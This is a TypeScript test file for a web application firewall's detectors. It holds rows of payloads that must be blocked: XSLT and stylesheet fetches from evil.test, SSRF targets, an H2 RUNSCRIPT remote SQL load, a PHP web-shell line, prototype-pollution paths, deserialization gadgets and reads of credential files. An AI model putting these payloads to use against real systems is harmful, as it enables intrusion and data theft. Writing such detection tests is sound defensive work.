import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Detector, Zone } from '../waf.ts';
import { calls } from './calls.ts';
import { prototype } from './prototype.ts';
import { traversal } from './traversal.ts';
import { trial } from './trial.ts';
import { upload } from './upload.ts';
import { xml } from './xml.ts';

type Row = readonly [text: string, name?: string, part?: 'name' | 'value'];

interface Rows {
  readonly detector: Detector;
  readonly zone: Zone;
  readonly stops: readonly Row[];
  readonly passes: readonly Row[];
}

const families: Readonly<Record<string, Rows>> = {
  'nodes of a parsed document': {
    detector: xml,
    zone: 'xml',
    stops: [
      ['xml-stylesheet type="text/xsl" href="http://127.0.0.1:9200/_search"', '?'],
      ["xml-stylesheet href='//evil.test/x.xsl'", '?'],
      ['http://evil.test/a.xsl', 'stylesheet.import.@href'],
      ['msl:/tmp/a.msl', 'svg.image.@xlink:href'],
      ['mhtml:http://evil.test/x.html!x', 'Relationships.Relationship.@Target'],
      ['msxsl:script', 'stylesheet.script', 'name'],
      ['xsl:evaluate', 'stylesheet.template.evaluate', 'name'],
      ['http://www.w3.org/TR/1999/REC-xslt-19991116', 'Signature.Transforms.Transform.@Algorithm'],
      ['http://php.net/xsl', 'stylesheet.@xmlns:php'],
    ],
    passes: [
      ['xml-stylesheet type="text/css" href="https://a.example/style.css"', '?'],
      ['https://a.example/sitemap.xsl', 'links.link.@href'],
      ['cid:1@a', 'Envelope.Body.a.Include.@href'],
      ['https://a.example/', 'Relationships.Relationship.@Target'],
      ['xsl:template', 'stylesheet.template', 'name'],
      ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'Signature.Transform.@Algorithm'],
    ],
  },
  'documents in a text': {
    detector: xml,
    zone: 'json',
    stops: [
      ['<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a'],
      ['<?xml version="1.0" encoding="ibm037"?><a/>'],
      ['<xs:include xmlns:xs="x" schemaLocation="http://127.0.0.1:8080/a.xsd"/>'],
      ['<xsl:stylesheet xmlns:xsl="x"><xsl:evaluate xpath="a"/></xsl:stylesheet>'],
    ],
    passes: [
      ['<?xml version="1.0" encoding="ISO-8859-15"?><a/>'],
      ['<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd"><cXML/>'],
      ['<urlset schemaLocation="http://www.sitemaps.org/schemas/sitemap/0.9 http://www.sitemaps.org/x.xsd"/>'],
    ],
  },
  'paths into all objects': {
    detector: prototype,
    zone: 'json',
    stops: [
      ['constructor.prototype.json spaces', 'path'],
      ['constructor->prototype->x', 'keypath'],
      ["Reflect.set(Object.prototype,'x',1)", 'v'],
      ['Array.prototype.push=function(){}', 'v'],
      ['superclass', 'class.superclass', 'name'],
      ['classLoader', 'class.module.classLoader', 'name'],
    ],
    passes: [
      ['constructorId', 'results[].Constructor.constructorId', 'name'],
      ['constructor.prototype.foo is not what I expected', 'text'],
      ['at Array.prototype.map (native)', 'stack'],
      ['superclass', 'course.superclass', 'name'],
      ['module', 'class.module', 'name'],
    ],
  },
  'files that open something': {
    detector: upload,
    zone: 'file',
    stops: [
      ['%PDF-1.7\n<</S/GoToR/F(\\\\\\\\1.2.3.4\\\\x)/D[0]>>'],
      ['%PDF-1.7\n<</S/URI/URI(file:///c:/windows/x.exe)>>'],
      ['{\\rtf1{\\*\\template http://evil.test/t.dotm}}'],
      ['BEGIN:VCARD\nPHOTO;VALUE=URI:file:///etc/passwd\nEND:VCARD'],
      ['<asx><entry><ref href="\\\\1.2.3.4\\x.mp3"/></entry></asx>'],
      ['=RTD("x.y",,"a")'],
      ['a.searchconnector-ms'],
      ['# T\n```php\n<?php system($_GET[0]);\n```'],
    ],
    passes: [
      ['%PDF-1.7\n<</S/URI/URI(https://a.example/)>><</S/GoTo/D[0]>>'],
      ['{\\rtf1\\ansi Hello}'],
      ['BEGIN:VCARD\nPHOTO;VALUE=URI:https://a.example/a.png\nEND:VCARD'],
      ['# T\n```php\n<?php echo 1;\n```'],
      ['a,b\n-12,+49 30 123'],
    ],
  },
  'calls into products': {
    detector: calls,
    zone: 'form',
    stops: [
      ['mail[#post_render][]', 'mail[#post_render][]', 'name'],
      ['__construct()', 'handle.as session.__construct()', 'name'],
      ['sourceData', 'address.totalsCollector.collectorList.totalCollector.sourceData', 'name'],
      ['wp_capabilities[administrator]', 'wp_capabilities[administrator]', 'name'],
      ['user[email][]', 'user[email][]', 'name'],
      ['GuzzleHttp\\Psr7\\FnStream', 'class'],
      ['{"s":"clctn","class":"GuzzleHttp\\\\Psr7\\\\FnStream"}', 'snapshot'],
      ["mem:;INIT=RUNSCRIPT FROM 'http://evil.test/x.sql'", 'db'],
      ['jdbc:mysql://a/b?autoDeserialize=true&queryInterceptors=com.mysql.cj.x', 'url'],
      ['}}}{{async async=false}}{{groovy}}println(1)', 'text'],
      ['exec', 'hhook'],
      ['account/mail/#value', 'element_parents'],
    ],
    passes: [
      ['mail[value]', 'mail[value]', 'name'],
      ['source.data', 'order.source.data', 'name'],
      ['sourceData', 'chart.sourceData', 'name'],
      ['user[email]', 'user[email]', 'name'],
      ['system', 'category'],
      ['#value', 'color'],
      ['at Illuminate\\Broadcasting\\PendingBroadcast::send (app.php:3)', 'trace'],
      ['jdbc:mysql://db:3306/app?useSSL=true', 'url'],
      ['run: mvn -Dinit=create table', 'step'],
      ['{{python}} {{PHP}}', 'wikitext'],
    ],
  },
  'files of the machine': {
    detector: traversal,
    zone: 'query',
    stops: [['/var/run/docker.sock'], ['%SYSTEMROOT%\\System32\\config\\SAM'], ['vfs:///etc'], ['res://ieframe.dll/x']],
    passes: [['/Documents/2024'], ['docker.sock'], ['C:\\Users\\Anna\\a.docx'], ['resource://a']],
  },
};

describe('documents, objects and files', () => {
  for (const [family, { detector, zone, stops, passes }] of Object.entries(families)) {
    const points = ([text, name = 'q', part = 'value']: Row): number =>
      trial(detector, text, { zone, name, part }).points;
    it(`stop at level 1: ${family}`, () =>
      assert.deepEqual(
        stops.filter(row => points(row) < 5),
        [],
      ));
    it(`pass at level 1: ${family}`, () =>
      assert.deepEqual(
        passes.filter(row => points(row) >= 5),
        [],
      ));
  }
});
